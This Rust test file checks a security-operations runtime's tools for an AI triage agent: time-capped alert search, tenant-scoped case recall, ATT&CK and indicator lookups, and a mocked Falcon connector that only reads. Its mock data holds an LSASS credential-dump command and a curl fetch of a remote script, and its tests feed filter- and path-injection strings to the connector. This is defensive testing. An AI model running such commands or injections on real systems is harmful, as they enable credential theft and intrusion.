//! The roles' tools over real data: the AIT-ADS raw alerts, the MITRE ATT&CK bundle, case
//! memory folded by a real run of the dev tickets, an indicator list file; and the Falcon
//! connector against a local server that records what it is asked (Falcon is a cloud service:
//! the recorder stands in for it and checks that nothing but reads is ever requested).

#![allow(
    clippy::disallowed_methods,
    reason = "tests own and abort the tasks they spawn"
)]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failure should fail the test loudly"
)]

mod common;

use std::io::BufRead;
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use soc_runtime::knowledge::Knowledge;
use soc_runtime::llm::reason::{Scope, ToolProvider};
use soc_runtime::proto::CaseContext;
use soc_runtime::tools::{Toolbox, ToolsConfig};

/// The first `n` dev tickets of `site`, as JSON.
fn tickets(site: &str, n: usize) -> Vec<Value> {
    let reader = soc_runtime::ingest::open_text(&common::dev_tickets()).unwrap();
    reader
        .lines()
        .map(|l| serde_json::from_str::<Value>(&l.unwrap()).unwrap())
        .filter(|t| t["site"] == site)
        .take(n)
        .collect()
}

fn case_of(t: &Value) -> CaseContext {
    CaseContext {
        ticket: t["ticket_id"].as_str().unwrap().into(),
        site: t["site"].as_str().map(Into::into),
        source: t["source"].as_str().unwrap().into(),
        rule_id: t["rule_id"].as_str().unwrap().into(),
        rule_name: t["rule_name"].as_str().unwrap().into(),
        host: t["host"].as_str().unwrap().into(),
        src_ips: serde_json::from_value(t["src_ips"].clone()).unwrap(),
        first_seen: t["first_seen"].as_str().unwrap().into(),
        last_seen: t["last_seen"].as_str().unwrap().into(),
        ..CaseContext::default()
    }
}

fn ms(rfc3339: &str) -> i64 {
    chrono::DateTime::parse_from_rfc3339(rfc3339)
        .unwrap()
        .timestamp_millis()
}

async fn call(tools: &Toolbox, scope: &Scope, name: &str, args: Value) -> Result<Value, String> {
    tools
        .call(scope, name, &args.to_string())
        .await
        .map(|text| serde_json::from_str(&text).unwrap())
        .map_err(|e| e.to_string())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tools_over_real_data_never_see_past_the_case() {
    common::logs();
    let dir = tempfile::tempdir().unwrap();
    // Case memory: a rules run over the first 400 tickets of one site.
    let sample = tickets("santos", 400);
    let feed = dir.path().join("feed.jsonl");
    let lines: Vec<String> = sample
        .iter()
        .map(|t| {
            let mut t = t.clone();
            t.as_object_mut().unwrap().remove("ground_truth");
            t.to_string()
        })
        .collect();
    std::fs::write(&feed, lines.join("\n") + "\n").unwrap();
    let (_, store_path) = common::run_until_idle(dir.path(), feed).await;

    // The analysts' dispositions, each known four hours after its ticket's last alert.
    let store = soc_runtime::store::Store::open(&store_path).await.unwrap();
    let facts: Vec<_> = sample
        .iter()
        .map(|t| soc_runtime::knowledge::DispositionFacts {
            ticket: t["ticket_id"].as_str().unwrap().into(),
            disposition: if t["ground_truth"] == "escalate" {
                soc_runtime::knowledge::Disposition::Escalate
            } else {
                soc_runtime::knowledge::Disposition::Close
            },
            site: "santos".into(),
            rule: t["rule_id"].as_str().unwrap().into(),
            host: t["host"].as_str().unwrap().into(),
            detector: t["source"].as_str().unwrap().into(),
            known_ms: ms(t["last_seen"].as_str().unwrap()) + 4 * 3_600_000,
            ..Default::default()
        })
        .collect();
    store.import_dispositions(&facts, "test").await.unwrap();

    let list = dir.path().join("scanners.txt");
    let probe = &sample[300];
    let probe_ip = probe["src_ips"][0].as_str().unwrap().to_owned();
    std::fs::write(&list, format!("# test list\n{probe_ip}, seen scanning\n")).unwrap();
    let datasets = common::datasets_dir();
    let config = ToolsConfig {
        alerts: Some(datasets.join("ait-ads/alerts-dev.csv.gz")),
        attack_bundle: Some(datasets.join("attack/enterprise-attack-v18.1.json.gz")),
        ioc_lists: vec![list],
        ..ToolsConfig::default()
    };
    let tools = Toolbox::load(
        &config,
        Arc::new(Knowledge::default()),
        Some(store.pool().clone()),
        true,
    )
    .await
    .unwrap();
    let names = tools.names();
    for tool in [
        "memory.recall",
        "alerts.search",
        "attack.lookup",
        "ioc.lookup",
    ] {
        assert!(names.iter().any(|n| n == tool), "{tool} in {names:?}");
    }
    assert!(
        !names.iter().any(|n| n.starts_with("falcon.")),
        "no Falcon without credentials"
    );

    // Find a probe with later alerts on its host, so the cap is really tested.
    let case = case_of(probe);
    let scope = Scope::of(&case);
    let until = ms(&case.last_seen);
    let found = call(
        &tools,
        &scope,
        "alerts.search",
        json!({"host": case.host, "since": "2000-01-01T00:00:00Z", "limit": 50}),
    )
    .await
    .unwrap();
    let matched = found["matched"].as_u64().unwrap();
    assert!(matched > 0, "{found}");
    for row in found["newest"].as_array().unwrap() {
        assert!(ms(row["time"].as_str().unwrap()) <= until, "{row}");
        assert_eq!(row["site"], "santos");
    }
    let later = call(
        &tools,
        &Scope {
            until_ms: i64::MAX / 2,
            ..scope.clone()
        },
        "alerts.search",
        json!({"host": case.host, "since": "2000-01-01T00:00:00Z"}),
    )
    .await
    .unwrap();
    assert!(
        later["matched"].as_u64().unwrap() > matched,
        "the archive holds later alerts on {}, which the case must not see",
        case.host
    );
    // Asking for the future gets the cap.
    let future = call(
        &tools,
        &scope,
        "alerts.search",
        json!({"host": case.host, "until": "2030-01-01T00:00:00Z"}),
    )
    .await
    .unwrap();
    assert!(ms(future["searched"]["until"].as_str().unwrap()) <= until);
    assert!(
        call(&tools, &scope, "alerts.search", json!({}))
            .await
            .unwrap_err()
            .contains("at least one of")
    );

    // Recall: earlier cases only, and analysts' dispositions only once known.
    let recalled = call(&tools, &scope, "memory.recall", json!({}))
        .await
        .unwrap();
    let similar = recalled["similar_cases"].as_array().unwrap();
    assert!(!similar.is_empty(), "{recalled}");
    let by_id: std::collections::HashMap<&str, &Value> = sample
        .iter()
        .map(|t| (t["ticket_id"].as_str().unwrap(), t))
        .collect();
    let mut hidden = 0;
    for s in similar {
        let id = s["ticket"].as_str().unwrap();
        assert_ne!(id, case.ticket);
        let t = by_id[id];
        assert!(ms(t["first_seen"].as_str().unwrap()) <= until, "{s}");
        let known = ms(t["last_seen"].as_str().unwrap()) + 4 * 3_600_000 <= until;
        assert_eq!(s["analyst_disposition"].is_null(), !known, "{s}");
        hidden += usize::from(!known);
    }
    tracing::info!(recalled = similar.len(), hidden, "recall as of the case");
    // Another tenant's case recalls none of this site's cases.
    let elsewhere = Scope {
        site: "fox".into(),
        ..scope.clone()
    };
    let none = call(&tools, &elsewhere, "memory.recall", json!({}))
        .await
        .unwrap();
    assert_eq!(none["similar_cases"], json!([]), "{none}");

    // ATT&CK from the real bundle.
    let t = call(
        &tools,
        &scope,
        "attack.lookup",
        json!({"technique": "T1110.001"}),
    )
    .await
    .unwrap();
    assert_eq!(t["name"], "Brute Force: Password Guessing");
    assert!(
        t["tactics"]
            .as_array()
            .unwrap()
            .contains(&json!("credential-access"))
    );
    assert!(t["groups_using_it_total"].as_u64().unwrap() > 0, "{t}");
    let g = call(
        &tools,
        &scope,
        "attack.lookup",
        json!({"group": "Fancy Bear"}),
    )
    .await
    .unwrap();
    assert_eq!(g["id"], "G0007");
    assert!(
        g["technique_ids"]
            .as_array()
            .unwrap()
            .contains(&json!("T1110.001"))
    );
    let search = call(&tools, &scope, "attack.lookup", json!({"query": "dns"}))
        .await
        .unwrap();
    assert!(
        search["techniques"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t["id"] == "T1071.004"),
        "{search}"
    );
    assert!(
        call(
            &tools,
            &scope,
            "attack.lookup",
            json!({"technique": "T9999"})
        )
        .await
        .unwrap_err()
        .contains("no active ATT&CK technique")
    );

    // The indicator list.
    let hit = call(&tools, &scope, "ioc.lookup", json!({"value": probe_ip}))
        .await
        .unwrap();
    assert_eq!(hit["on_lists"][0]["list"], "scanners");
    assert_eq!(hit["on_lists"][0]["label"], "seen scanning");
    let miss = call(
        &tools,
        &scope,
        "ioc.lookup",
        json!({"value": "198.51.100.1"}),
    )
    .await
    .unwrap();
    assert_eq!(miss["on_lists"], json!([]));
    assert!(
        call(&tools, &scope, "nope.tool", json!({}))
            .await
            .unwrap_err()
            .contains("no tool named")
    );
    store.close().await;
}

/// What the Falcon recorder was asked: method, path, query, body.
type Asked = Arc<Mutex<Vec<(String, String, String, String)>>>;

/// A local server answering like the Falcon API, recording every request. The first bearer
/// token it issues is refused once with 401, so the connector must renew it.
async fn falcon_recorder() -> (String, Asked, tokio_util::task::AbortOnDropHandle<()>) {
    use axum::body::Bytes;
    use axum::http::{HeaderMap, Method, StatusCode, Uri};
    let asked: Asked = Arc::default();
    let tokens = Arc::new(std::sync::atomic::AtomicU32::new(0));
    let record = asked.clone();
    let app = axum::Router::new().fallback(
        move |method: Method, uri: Uri, headers: HeaderMap, body: Bytes| {
            let record = record.clone();
            let tokens = tokens.clone();
            async move {
                let body = String::from_utf8_lossy(&body).into_owned();
                record.lock().unwrap().push((
                    method.to_string(),
                    uri.path().to_owned(),
                    uri.query().unwrap_or("").to_owned(),
                    body.clone(),
                ));
                let auth = headers
                    .get("authorization")
                    .and_then(|v| v.to_str().ok())
                    .unwrap_or("")
                    .to_owned();
                let reply = |status: StatusCode, v: Value| (status, axum::Json(v));
                match uri.path() {
                    "/oauth2/token" => {
                        if !body.contains("client_secret=s3cret") {
                            return reply(StatusCode::UNAUTHORIZED, json!({"errors": [
                                {"code": 401, "message": "access denied, invalid credentials"}]}));
                        }
                        let n = tokens.fetch_add(1, std::sync::atomic::Ordering::SeqCst) + 1;
                        reply(
                            StatusCode::CREATED,
                            json!({"access_token": format!("tok-{n}"), "token_type": "bearer",
                                   "expires_in": 1799}),
                        )
                    }
                    _ if auth == "Bearer tok-1" => reply(
                        StatusCode::UNAUTHORIZED,
                        json!({"errors": [{"code": 401, "message": "access denied, authorization failed"}]}),
                    ),
                    "/alerts/queries/alerts/v2" => reply(
                        StatusCode::OK,
                        json!({"resources": ["cid:ind:aaa", "cid:ind:bbb"], "errors": []}),
                    ),
                    "/alerts/entities/alerts/v2" => reply(
                        StatusCode::OK,
                        json!({"resources": [{"composite_id": "cid:ind:aaa",
                            "created_timestamp": "2022-01-15T10:01:00Z", "severity_name": "High",
                            "display_name": "CredentialDumping", "tactic": "Credential Access",
                            "technique": "OS Credential Dumping", "technique_id": "T1003",
                            "status": "new", "filename": "procdump.exe",
                            "cmdline": "procdump.exe -ma lsass.exe out.dmp"}]}),
                    ),
                    "/devices/queries/devices/v1" => reply(
                        StatusCode::OK,
                        json!({"resources": ["0123456789abcdef0123456789abcdef"]}),
                    ),
                    "/devices/entities/devices/v2" => reply(
                        StatusCode::OK,
                        json!({"resources": [{"device_id": "0123456789abcdef0123456789abcdef",
                            "hostname": "web-1", "platform_name": "Linux",
                            "local_ip": "10.0.0.5", "status": "normal"}]}),
                    ),
                    "/processes/entities/processes/v1" => reply(
                        StatusCode::OK,
                        json!({"resources": [{"process_id": "4242", "file_name": "/usr/bin/curl",
                            "command_line": "curl http://198.51.100.9/x.sh"}]}),
                    ),
                    _ => reply(StatusCode::NOT_FOUND, json!({"errors": [{"message": "no such route"}]})),
                }
            }
        },
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let server = tokio::spawn(async move {
        axum::serve(listener, app).await.unwrap();
    });
    (url, asked, tokio_util::task::AbortOnDropHandle::new(server))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_falcon_connector_only_reads_and_never_widens_its_filter() {
    use soc_runtime::tools::falcon::{Falcon, FalconConfig, READ_PATHS};
    let (url, asked, _server) = falcon_recorder().await;
    let config = FalconConfig {
        base_url: url.clone(),
        client_id: "id-1".into(),
        client_secret: Some(soc_runtime::secret::Secret::new("s3cret")),
        ..FalconConfig::default()
    };
    let falcon = Falcon::from_config(&config).unwrap().unwrap();
    assert!(!format!("{falcon:?}").contains("s3cret"));
    let scope = Scope {
        ticket: "t-1".into(),
        site: "x".into(),
        until_ms: ms("2022-01-15T10:05:00Z"),
        ..Scope::default()
    };
    let ask = |name: &'static str, args: Value| {
        let falcon = &falcon;
        let scope = &scope;
        async move {
            falcon
                .call(scope, name, &args.to_string())
                .await
                .map(|t| serde_json::from_str::<Value>(&t).unwrap())
        }
    };
    let alerts = ask("falcon.alerts", json!({"host": "web-1", "limit": 5}))
        .await
        .unwrap();
    assert_eq!(alerts["alerts"][0]["technique_id"], "T1003");
    assert_eq!(alerts["until"], "2022-01-15T10:05:00Z");
    let host = ask("falcon.host", json!({"host": "web-1"})).await.unwrap();
    assert_eq!(host["devices"][0]["platform"], "Linux");
    let process = ask(
        "falcon.process",
        json!({"device_id": "0123456789abcdef0123456789abcdef", "process_id": 4242}),
    )
    .await
    .unwrap();
    assert_eq!(process["processes"][0]["file_name"], "/usr/bin/curl");
    let before = asked.lock().unwrap().len();
    for (name, args) in [
        ("falcon.alerts", json!({"host": "web-1'+hostname:*"})),
        ("falcon.host", json!({"host": "x' OR '1"})),
        (
            "falcon.process",
            json!({"device_id": "../../devices", "process_id": "1"}),
        ),
        (
            "falcon.process",
            json!({"device_id": "0123456789abcdef0123456789abcdef", "process_id": "1;2"}),
        ),
    ] {
        assert!(ask(name, args.clone()).await.is_err(), "{name} {args}");
    }
    assert_eq!(
        asked.lock().unwrap().len(),
        before,
        "refused arguments never reach Falcon"
    );

    let asked = asked.lock().unwrap().clone();
    // Token requests carry the client id and secret and ask for no scope.
    let token_requests: Vec<_> = asked.iter().filter(|r| r.1 == "/oauth2/token").collect();
    assert_eq!(
        token_requests.len(),
        2,
        "the refused token was renewed once"
    );
    for (method, _, _, body) in &token_requests {
        assert_eq!(method, "POST");
        assert!(body.contains("client_id=id-1"), "{body}");
        assert!(!body.contains("scope"), "{body}");
    }
    // Every request went to a read endpoint; the only non-GET besides the token is the
    // alert details read.
    for (method, path, _, _) in &asked {
        assert!(READ_PATHS.contains(&path.as_str()), "{method} {path}");
        assert!(
            method == "GET" || path == "/oauth2/token" || path == "/alerts/entities/alerts/v2",
            "{method} {path}"
        );
    }
    // The alert query is capped at the case's time and bound to the host.
    let query = &asked
        .iter()
        .find(|r| r.1 == "/alerts/queries/alerts/v2")
        .unwrap()
        .2;
    let url = reqwest::Url::parse(&format!("http://x/?{query}")).unwrap();
    let filter = url
        .query_pairs()
        .find(|(k, _)| k == "filter")
        .unwrap()
        .1
        .into_owned();
    assert_eq!(
        filter,
        "device.hostname:'web-1'+created_timestamp:<='2022-01-15T10:05:00Z'"
    );

    // A Falcon tenant covering other sites answers nothing for this case's site.
    let scoped = Falcon::from_config(&FalconConfig {
        sites: vec!["other-site".into()],
        ..config.clone()
    })
    .unwrap()
    .unwrap();
    let e = scoped
        .call(&scope, "falcon.host", r#"{"host":"web-1"}"#)
        .await
        .unwrap_err()
        .to_string();
    assert!(e.contains("does not cover site \"x\""), "{e}");

    // Wrong credentials: a clear error, no secret in it.
    let wrong = Falcon::from_config(&FalconConfig {
        client_secret: Some(soc_runtime::secret::Secret::new("nope")),
        ..config
    })
    .unwrap()
    .unwrap();
    let e = wrong
        .call(&scope, "falcon.host", r#"{"host":"web-1"}"#)
        .await
        .unwrap_err()
        .to_string();
    assert!(e.contains("Falcon refused the API client: 401"), "{e}");
    assert!(
        e.contains("invalid credentials") && !e.contains("nope"),
        "{e}"
    );
}
